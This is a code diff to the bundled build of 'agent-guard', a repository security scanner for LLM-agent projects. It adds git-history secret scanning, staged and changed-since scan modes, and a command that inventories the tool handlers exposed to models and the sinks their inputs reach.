+    const candidates = list2.filter((o) => !o.ignored);
+    if (candidates.length === 0 || list2.some((o) => o.inline)) {
+      suppressed++;
+      continue;
+    }
+    candidates.sort((a, b) => a.origin.order - b.origin.order || (a.finding.path < b.finding.path ? -1 : a.finding.path > b.finding.path ? 1 : 0) || a.finding.range.startLine - b.finding.range.startLine || a.finding.range.startColumn - b.finding.range.startColumn);
+    const first = candidates[0];
+    const otherPaths = [...new Set(candidates.map((c) => c.finding.path))].filter((p) => p !== first.finding.path).sort();
+    const url = commitUrl(info2.provenance.repositoryUri, first.origin.commit);
+    chosen.push({
+      ...first.finding,
+      message: first.finding.message + historySuffix(first.finding.family, first.origin),
+      properties: {
+        ...first.finding.properties ?? {},
+        history: true,
+        commit: first.origin.commit,
+        authorDate: first.origin.authorDate,
+        historyPath: first.finding.path,
+        blob: first.origin.blob,
+        ...url ? { commitUrl: url } : {},
+        ...otherPaths.length ? { alsoIn: otherPaths.slice(0, 10) } : {}
+      }
+    });
+  }
+  const historyFindings = finalise(chosen);
+  info2.skippedBlobs = input.skippedBlobs.length;
+  info2.durationMs = Math.round(performance.now() - started);
+  const rules2 = /* @__PURE__ */ new Map();
+  for (const r2 of [...tree?.rules ?? [], ...historyResult.rules]) if (!rules2.has(r2.id)) rules2.set(r2.id, r2);
+  const byPath = (a, b) => a.path < b.path ? -1 : a.path > b.path ? 1 : 0;
+  const notices = tree?.notices;
+  return {
+    root: root.root,
+    findings: [...tree?.findings ?? [], ...historyFindings],
+    skipped: [...tree?.skipped ?? [], ...aggregateSkipped(input.skippedBlobs).sort(byPath)],
+    ruleErrors: [...tree?.ruleErrors ?? [], ...historyResult.ruleErrors],
+    rules: [...rules2.values()],
+    suppressed: (tree?.suppressed ?? 0) + suppressed,
+    stats: {
+      files: (tree?.stats.files ?? 0) + historyResult.stats.files,
+      bytes: (tree?.stats.bytes ?? 0) + historyResult.stats.bytes,
+      durationMs: Math.round(performance.now() - started)
+    },
+    ...notices?.length ? { notices } : {},
+    history: info2
+  };
+}
+function historySummary(info2) {
+  const n = (x) => x.toLocaleString("en-US");
+  return `history ${info2.range}: ${n(info2.commits)} commit${info2.commits === 1 ? "" : "s"}, ${n(info2.blobVersions)} blob versions, ${n(info2.uniqueBlobs)} unique blob${info2.uniqueBlobs === 1 ? "" : "s"} (${n(info2.scannedBlobs)} scanned, ${n(info2.skippedBlobs)} skipped), families: ${info2.families.join(", ")}`;
+}
+
+// src/cli/history-options.ts
+var HISTORY_OPTIONS = {
+  history: { type: "boolean" },
+  since: { type: "string" },
+  until: { type: "string" },
+  "history-families": { type: "string" }
+};
+var HISTORY_USAGE = `      --history         also scan every blob the commit range introduced (all history by default),
+                        each distinct blob once, for secrets; a secret still in the working tree is
+                        reported once, by the tree scan; history findings name their commit
+      --since REF       with --history: only commits not reachable from REF (REF..HEAD)
+      --until REF       with --history: the last commit of the range (default HEAD)
+      --history-families LIST
+                        with --history: families scanned in history, comma-separated or "all"
+                        (default: secret)`;
+function historyPlan(args2) {
+  const v = args2.values;
+  if (!v.history) {
+    for (const flag of ["since", "until", "history-families"]) if (v[flag] !== void 0) throw new UsageError(`--${flag} needs --history`);
+    return null;
+  }
+  if (v.staged) throw new UsageError("--history and --staged cannot be used together (the index is not history)");
+  for (const flag of ["since", "until"]) {
+    const value = v[flag];
+    if (value !== void 0 && !String(value).trim()) throw new UsageError(`--${flag} needs a revision (e.g. origin/main)`);
+  }
+  return {
+    since: v.since,
+    until: v.until,
+    families: parseFamilies(v["history-families"])
+  };
+}
+async function runHistoryScan(plan, root, config, treeInput, rules2, io) {
+  const result = await scanHistory({ root, config, since: plan.since, until: plan.until, families: plan.families, tree: { input: treeInput, rules: rules2 } });
+  io.err(`agent-guard: ${historySummary(result.history)}
+`);
+  for (const note of result.history.notes) io.err(`agent-guard: note: ${note}
+`);
+  return result;
+}
+
+// src/cli/scan-modes.ts
+import { isAbsolute as isAbsolute5, relative as relative4, resolve as resolve9 } from "node:path";
+
+// src/sources/changed.ts
+import { lstatSync as lstatSync2 } from "node:fs";
+import { join as join12 } from "node:path";
+
+// src/sources/blobs.ts
+import { spawn as spawn3 } from "node:child_process";
+var BlobReader2 = class {
+  constructor(cwd, env = process.env) {
+    this.cwd = cwd;
+    this.env = env;
+  }
+  cwd;
+  env;
+  child;
+  queue = [];
+  failed;
+  // parser state for the answer at the head of the queue
+  header = [];
+  body = [];
+  bodyLength = 0;
+  expected = -1;
+  // bytes still to come for the current object (content + trailing LF), -1 = reading header
+  keep = true;
+  size = 0;
+  read(oid, maxSize = Number.MAX_SAFE_INTEGER) {
+    if (this.failed) return Promise.reject(this.failed);
+    const child = this.start();
+    return new Promise((resolve12, reject) => {
+      this.queue.push({ oid, maxSize, resolve: resolve12, reject });
+      if (this.queue.length === 1) this.setRef(true);
+      child.stdin.write(`${oid}
+`);
+    });
+  }
+  close() {
+    if (this.child && !this.child.stdin.destroyed) this.child.stdin.end();
+  }
+  start() {
+    if (this.child) return this.child;
+    const child = spawn3("git", ["cat-file", "--batch"], { cwd: this.cwd, env: { ...this.env, GIT_OPTIONAL_LOCKS: "0" }, stdio: ["pipe", "pipe", "pipe"] });
+    let stderr = "";
+    child.stderr.on("data", (d) => {
+      stderr += d.toString();
+    });
+    child.stdout.on("data", (chunk) => this.onData(chunk));
+    const fail = (err2) => {
+      this.failed ??= err2;
+      for (const p of this.queue.splice(0)) p.reject(this.failed);
+    };
+    child.on("error", (err2) => fail(new Error(`git cat-file failed: ${err2.message}`)));
+    child.on("close", (code2) => {
+      if (this.queue.length) fail(new Error(`git cat-file exited (${code2 ?? "signal"})${stderr ? `: ${stderr.split("\n")[0]}` : ""}`));
+    });
+    child.stdin.on("error", () => {
+    });
+    this.child = child;
+    this.setRef(false);
+    return child;
+  }
+  setRef(on) {
+    const c = this.child;
+    if (!c) return;
+    const streams = [c.stdin, c.stdout, c.stderr];
+    if (on) {
+      c.ref();
+      for (const s of streams) s.ref?.();
+    } else {
+      c.unref();
+      for (const s of streams) s.unref?.();
+    }
+  }
+  onData(chunk) {
+    let buf = chunk;
+    while (buf.length > 0) {
+      if (this.expected < 0) {
+        const nl = buf.indexOf(10);
+        if (nl < 0) {
+          this.header.push(buf);
+          return;
+        }
+        this.header.push(buf.subarray(0, nl));
+        buf = buf.subarray(nl + 1);
+        const line = Buffer.concat(this.header).toString("utf8");
+        this.header = [];
+        const head = this.queue[0];
+        if (!head) continue;
+        if (line.endsWith(" missing") || line.endsWith(" ambiguous")) {
+          this.finish({ missing: true });
+          continue;
+        }
+        const parts2 = line.split(" ");
+        this.size = Number(parts2[2]);
+        this.keep = this.size <= head.maxSize;
+        this.expected = this.size + 1;
+        this.body = [];
+        this.bodyLength = 0;
+        continue;
+      }
+      const take = Math.min(this.expected, buf.length);
+      if (this.keep) {
+        this.body.push(buf.subarray(0, take));
+        this.bodyLength += take;
+      }
+      this.expected -= take;
+      buf = buf.subarray(take);
+      if (this.expected === 0) {
+        this.expected = -1;
+        if (this.keep) {
+          const all = Buffer.concat(this.body, this.bodyLength);
+          this.finish({ bytes: all.subarray(0, this.size) });
+        } else {
+          this.finish({ tooLarge: this.size });
+        }
+        this.body = [];
+      }
+    }
+  }
+  finish(answer) {
+    const head = this.queue.shift();
+    if (this.queue.length === 0) this.setRef(false);
+    head?.resolve(answer);
+  }
+};
+
+// src/sources/staged.ts
+var REGULAR_FILE2 = /* @__PURE__ */ new Set(["100644", "100755"]);
+function splitZ2(buf) {
+  const parts2 = buf.toString("utf8").split("\0");
+  if (parts2.length && parts2[parts2.length - 1] === "") parts2.pop();
+  return parts2;
+}
+function mustGit(root, args2, what) {
+  const r2 = git(root, args2);
+  if (!r2.ok) throw new UsageError(`${what} failed in ${root}: ${r2.stderr.split("\n")[0] || `git ${args2[0]} exited non-zero`}`);
+  return r2.stdout;
+}
+function hasHead(root) {
+  return git(root, ["rev-parse", "--verify", "-q", "HEAD^{commit}"]).ok;
+}
+function listIndex(root) {
+  const out2 = [];
+  for (const rec of splitZ2(mustGit(root, ["ls-files", "-s", "-z"], "git ls-files"))) {
+    const tab = rec.indexOf("	");
+    const [mode, oid, stage] = rec.slice(0, tab).split(" ");
+    if (stage !== "0") continue;
+    out2.push({ path: rec.slice(tab + 1), mode, oid });
+  }
+  return out2;
+}
+function listStagedChanges(root) {
+  if (!hasHead(root)) return listIndex(root);
+  const recs = splitZ2(mustGit(root, ["diff-index", "--cached", "-z", "--no-renames", "--diff-filter=ACMT", "HEAD"], "git diff-index"));
+  const out2 = [];
+  for (let i2 = 0; i2 + 1 < recs.length; i2 += 2) {
+    const [, mode, , oid] = recs[i2].slice(1).split(" ");
+    out2.push({ path: recs[i2 + 1], mode, oid });
+  }
+  return out2.sort((a, b) => a.path < b.path ? -1 : a.path > b.path ? 1 : 0);
+}
+function underAny(path2, prefixes) {
+  if (!prefixes) return true;
+  return prefixes.some((p) => p === "" || path2 === p || path2.startsWith(p.endsWith("/") ? p : `${p}/`));
+}
+function answerToRead(path2, answer, maxFileSize) {
+  if ("missing" in answer) return { skipped: "blob missing from the object database" };
+  if ("tooLarge" in answer) return { skipped: `larger than the size cap (${formatBytes(answer.tooLarge)} > ${formatBytes(maxFileSize)}; raise maxFileSize to scan it)` };
+  return decodeText(path2, answer.bytes, maxFileSize);
+}
+function stagedInput(root, config, options = {}) {
+  if (!root.isGit) throw new UsageError(`--staged needs a git repository (${root.root} is not in one)`);
+  const reader = new BlobReader2(root.root);
+  const wanted = fileFilter(config);
+  let index;
+  const indexMap = () => index ??= new Map(listIndex(root.root).map((e) => [e.path, e]));
+  const selected = options.paths ? [...indexMap().values()].filter((e) => underAny(e.path, options.paths)) : listStagedChanges(root.root);
+  const entries = selected.filter((e) => REGULAR_FILE2.has(e.mode) && wanted(e.path)).map((e) => ({ path: e.path, load: async () => answerToRead(e.path, await reader.read(e.oid, config.maxFileSize), config.maxFileSize) }));
+  return {
+    root,
+    entries,
+    skipped: [],
+    close: () => reader.close(),
+    repository: {
+      allPaths: async () => [...indexMap().values()].filter((e) => REGULAR_FILE2.has(e.mode)).map((e) => e.path),
+      read: async (path2) => {
+        const e = indexMap().get(path2);
+        if (!e || !REGULAR_FILE2.has(e.mode)) return null;
+        return answerToRead(path2, await reader.read(e.oid, config.maxFileSize), config.maxFileSize);
+      }
+    }
+  };
+}
+
+// src/sources/changed.ts
+function splitZ3(buf) {
+  return buf.toString("utf8").split("\0").filter((s) => s.length > 0);
+}
+function changedPaths(root, ref) {
+  if (ref.startsWith("-")) throw new UsageError(`--changed-since: "${ref}" is not a revision`);
+  const commit = git(root, ["rev-parse", "--verify", "-q", "--end-of-options", `${ref}^{commit}`]);
+  if (!commit.ok) throw new UsageError(`--changed-since: unknown revision "${ref}" in ${root} (fetch it first, e.g. git fetch origin ${ref})`);
+  let base = commit.stdout.toString().trim();
+  if (hasHead(root)) {
+    const mb = git(root, ["merge-base", base, "HEAD"]);
+    if (mb.ok && mb.stdout.toString().trim()) base = mb.stdout.toString().trim();
+  }
+  const diff = git(root, ["diff", "--name-only", "-z", "--no-renames", "--no-ext-diff", "--diff-filter=ACMT", base, "--"]);
+  if (!diff.ok) throw new UsageError(`git diff failed in ${root}: ${diff.stderr.split("\n")[0]}`);
+  const untracked = git(root, ["ls-files", "-z", "--others", "--exclude-standard"]);
+  if (!untracked.ok) throw new UsageError(`git ls-files failed in ${root}: ${untracked.stderr.split("\n")[0]}`);
+  return [.../* @__PURE__ */ new Set([...splitZ3(diff.stdout), ...splitZ3(untracked.stdout)])].sort();
+}
+function changedInput(root, config, ref, paths) {
+  if (!root.isGit) throw new UsageError(`--changed-since needs a git repository (${root.root} is not in one)`);
+  const files = changedPaths(root.root, ref).filter((p) => underAny(p, paths)).map((p) => join12(root.root, p)).filter((abs) => {
+    try {
+      lstatSync2(abs);
+      return true;
+    } catch {
+      return false;
+    }
+  });
+  return workingTreeInput(root, files, config);
+}
+
+// src/cli/scan-modes.ts
+var SCAN_MODE_OPTIONS = {
+  staged: { type: "boolean" },
+  "changed-since": { type: "string" },
+  baseline: { type: "string" }
+};
+var SCAN_MODE_USAGE = `      --staged          scan the staged content (index blobs), not the working tree: the files staged
+                        in this commit, or with PATH the index entries under PATH (pre-commit hooks)
+      --changed-since REF
+                        scan only files changed since the merge base of REF and HEAD (committed,
+                        staged, unstaged or untracked)
+      --baseline FILE   report only findings not listed in FILE (written by "agent-guard baseline");
+                        entries that no longer match are reported as notes`;
+function planScan(args2, io, paths) {
+  const staged = Boolean(args2.values.staged);
+  const since = args2.values["changed-since"];
+  if (staged && since !== void 0) throw new UsageError("--staged and --changed-since cannot be used together");
+  if (since !== void 0 && !since.trim()) throw new UsageError("--changed-since needs a revision (e.g. origin/main)");
+  const baselinePath = args2.values.baseline;
+  const baseline = baselinePath !== void 0 ? loadBaseline(resolve9(io.cwd, baselinePath)) : void 0;
+  const explicit = args2.positionals.length > 0;
+  const rootPaths = staged ? [io.cwd] : paths;
+  let scanned = [];
+  let close = () => {
+  };
+  const relPaths = (root) => {
+    if (!explicit) return void 0;
+    return paths.map((p) => {
+      const rel = toPosix(relative4(root.root, p));
+      if (rel.startsWith("..") || isAbsolute5(rel)) throw new UsageError(`path ${p} is outside the scanned repository ${root.root}`);
+      return rel;
+    });
+  };
+  return {
+    rootPaths,
+    input: async (root, config) => {
+      let input;
+      if (staged) {
+        const s = stagedInput(root, config, { paths: relPaths(root) });
+        close = s.close;
+        input = s;
+      } else if (since !== void 0) {
+        input = changedInput(root, config, since, relPaths(root));
+      } else {
+        input = workingTreeInput(root, paths, config);
+      }
+      scanned = input.entries.map((e) => e.path);
+      return input;
+    },
+    finish(result) {
+      close();
+      return baseline ? applyBaseline(result, baseline, { scannedPaths: scanned }).result : result;
+    }
+  };
+}
+
+// src/cli/commands/scan.ts
 var scanCommand = {
   name: "scan",
   summary: "scan files of a repository and report findings",
@@ -21427,20 +37610,131 @@ Scans PATH (default: the current directory). Paths in the report are relative to
 repository holding the first PATH (or to PATH itself outside git); the config is read from that root.
 
 ${REPORT_USAGE}
-  -c, --config FILE     use FILE instead of .agent-guard.yml at the root`,
-  options: { ...REPORT_OPTIONS, config: { type: "string", short: "c" } },
+  -c, --config FILE     use FILE instead of .agent-guard.yml at the root
+${SCAN_MODE_USAGE}
+${HISTORY_USAGE}`,
+  options: { ...REPORT_OPTIONS, ...SCAN_MODE_OPTIONS, ...HISTORY_OPTIONS, config: { type: "string", short: "c" } },
   allowPositionals: true,
   async run(args2, io) {
-    const paths = (args2.positionals.length ? args2.positionals : ["."]).map((p) => resolve6(io.cwd, p));
-    const configFile = args2.values.config ? resolve6(io.cwd, args2.values.config) : void 0;
-    const { config } = loadRootAndConfig(paths, ALL_RULES, configFile);
-    const result = await scan({ paths, rules: ALL_RULES, config });
+    const paths = (args2.positionals.length ? args2.positionals : ["."]).map((p) => resolve10(io.cwd, p));
+    const configFile = args2.values.config ? resolve10(io.cwd, args2.values.config) : void 0;
+    const plan = planScan(args2, io, paths);
+    const history = historyPlan(args2);
+    const { root, config } = loadRootAndConfig(plan.rootPaths, ALL_RULES, configFile);
+    const result = plan.finish(
+      history ? await runHistoryScan(history, root, config, await plan.input(root, config), ALL_RULES, io) : await scan({ paths: plan.rootPaths, rules: ALL_RULES, config, input: plan.input })
+    );
     return emitReport(result, args2, io, config.failOn);
   }
 };
 
+// src/cli/commands/tools.ts
+import { resolve as resolve11 } from "node:path";
+
+// src/tools/inventory.ts
+async function buildInventory(paths, configFile) {
+  const { root, config } = loadRootAndConfig(paths, ALL_RULES, configFile);
+  const found = [];
+  const collector = {
+    meta: {
+      id: "tool-input/inventory",
+      family: "tool-input",
+      severity: "note",
+      description: "Lists tool handlers (internal to `agent-guard tools`).",
+      fix: "Nothing to fix.",
+      messages: {}
+    },
+    appliesTo: (file) => file.isCode,
+    async check(ctx) {
+      for (const handler of await toolsOfFile(ctx)) found.push({ handler, sinks: await sinksReachedBy(handler, ctx.project) });
+    }
+  };
+  const input = workingTreeInput(root, paths, config);
+  const result = await runRules(input, config, [collector]);
+  const order = sortHandlers(found.map((f) => f.handler));
+  const tools = order.map((h) => found.find((f) => f.handler === h));
+  return { root: result.root, tools, sinkAnalysis: hasSinkAnalyzer(), files: result.stats.files, skipped: result.skipped, errors: result.ruleErrors };
+}
+function parameterLabel(p) {
+  if (p.shape === "value") return p.name;
+  if (p.shape === "destructured") return `{${p.name}}`;
+  return `${[p.name, ...p.inputPath ?? []].join(".")}.*`;
+}
+function loc(path2, line) {
+  return `${path2}:${line}`;
+}
+function formatInventoryText(inv) {
+  const lines = [];
+  for (const { handler: h, sinks: sinks3 } of inv.tools) {
+    const where2 = loc(h.handler.path, h.handler.range.startLine);
+    const registered = h.registration.path !== h.handler.path ? `  (registered at ${loc(h.registration.path, h.registration.range.startLine)})` : "";
+    lines.push(`${where2}  ${h.framework}  ${h.name}${registered}`);
+    lines.push(`  parameters: ${h.parameters.length ? h.parameters.map(parameterLabel).join(", ") : "(none)"}`);
+    if (inv.sinkAnalysis) {
+      if (!sinks3.length) lines.push("  sinks: none reached");
+      else {
+        lines.push("  sinks:");
+        for (const s of sinks3) lines.push(`    ${loc(s.path, s.line)}  ${s.sink}  ${s.ruleId}`);
+      }
+    }
+  }
+  const files = new Set(inv.tools.map((t) => t.handler.registration.path)).size;
+  const frameworks = [...new Set(inv.tools.map((t) => t.handler.framework))].sort();
+  if (lines.length) lines.push("");
+  lines.push(
+    inv.tools.length ? `${inv.tools.length} tool handler${inv.tools.length === 1 ? "" : "s"} in ${files} file${files === 1 ? "" : "s"} (${frameworks.join(", ")})` : `no tool handlers found in ${inv.files} file${inv.files === 1 ? "" : "s"}`
+  );
+  if (!inv.sinkAnalysis) lines.push("sinks: dataflow analysis is not available in this build");
+  for (const e of inv.errors) lines.push(`warning: ${e.path}: ${e.reason}`);
+  return lines.join("\n") + "\n";
+}
+function inventoryJson(inv) {
+  return {
+    root: inv.root,
+    tools: inv.tools.map(({ handler: h, sinks: sinks3 }) => ({
+      framework: h.framework,
+      language: h.language,
+      name: h.name,
+      path: h.registration.path,
+      line: h.registration.range.startLine,
+      handler: { path: h.handler.path, line: h.handler.range.startLine, endLine: h.handler.range.endLine },
+      parameters: h.parameters.map((p) => ({ name: p.name, shape: p.shape, ...p.inputPath ? { inputPath: p.inputPath } : {}, line: p.range.startLine, column: p.range.startColumn })),
+      ...h.description ? { description: { text: h.description.text, path: h.description.path, line: h.description.range.startLine } } : {},
+      sinks: sinks3.map((s) => ({ ruleId: s.ruleId, sink: s.sink, path: s.path, line: s.line }))
+    })),
+    sinkAnalysis: inv.sinkAnalysis,
+    errors: inv.errors
+  };
+}
+
+// src/cli/commands/tools.ts
+var toolsCommand = {
+  name: "tools",
+  summary: "list every function exposed to a model as a tool: framework, name, file:line, parameters, sinks",
+  usage: `agent-guard tools [PATH...] [--format text|json] [--config FILE]
+
+Lists the tool handlers of PATH (default: the current directory): the functions that an agent framework
+(LangChain, OpenAI Agents, MCP, Vercel AI SDK, Mastra, CrewAI, pydantic-ai, smolagents, LlamaIndex,
+async-toolformer) exposes to a model, with the framework, the tool name, where the handler is, which
+parameters carry model input, and the dangerous sinks that input reaches. Files are chosen as by "scan".
+
+  -f, --format FORMAT   text (default) or json
+  -c, --config FILE     use FILE instead of .agent-guard.yml at the root`,
+  options: { format: { type: "string", short: "f" }, config: { type: "string", short: "c" } },
+  allowPositionals: true,
+  async run(args2, io) {
+    const format2 = args2.values.format ?? "text";
+    if (format2 !== "text" && format2 !== "json") throw new UsageError(`unknown --format "${format2}" for tools (expected text or json)`);
+    const paths = (args2.positionals.length ? args2.positionals : ["."]).map((p) => resolve11(io.cwd, p));
+    const configFile = args2.values.config ? resolve11(io.cwd, args2.values.config) : void 0;
+    const inventory = await buildInventory(paths, configFile);
+    io.out(format2 === "json" ? JSON.stringify(inventoryJson(inventory), null, 2) + "\n" : formatInventoryText(inventory));
+    return 0;
+  }
+};
+
 // src/cli/main.ts
-var COMMANDS = [scanCommand, demoCommand, rulesCommand, initCommand];
+var COMMANDS = [scanCommand, demoCommand, rulesCommand, initCommand, baselineCommand, installHookCommand, toolsCommand];
 function help() {
   const width = Math.max(...COMMANDS.map((c) => c.name.length));
   return `agent-guard ${VERSION}: security scanner for repositories that build LLM agents
